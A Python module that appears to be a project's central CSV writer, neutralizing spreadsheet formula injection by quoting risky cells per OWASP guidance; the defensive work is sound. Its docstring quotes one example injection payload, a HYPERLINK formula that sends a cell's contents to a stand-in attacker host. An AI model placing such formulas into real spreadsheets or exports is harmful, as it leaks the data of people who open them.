"""The one CSV writer every export goes through, safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some spreadsheets
skip before reading a formula) is run as a formula by Excel, LibreOffice and Google Sheets: a partner's
name such as ``=HYPERLINK("http://evil.example/?"&A1,"click")`` would act in the backbone's spreadsheet.
Following OWASP's CSV-injection guidance such a cell is prefixed with a single quote, which spreadsheets
show as text. Numbers (and text that is exactly a plain decimal number, such as ``-12.5`` formatted by an
export) are left alone, so negative quantities stay numbers.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from decimal import Decimal

# Full-width forms too: some spreadsheets fold them to their ASCII twins before parsing a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"-?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?")


def safe_cell(value: object) -> object:
    """``value`` as it may go into a cell: numbers unchanged, None as empty, text neutralized if it could
    start a formula."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)):   # bool too: written True/False, never a formula
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def write_csv(header: Iterable[str], rows: Iterable[Iterable[object]]) -> str:
    """A whole CSV document: the header, then each row, every cell through :func:`safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return buffer.getvalue()
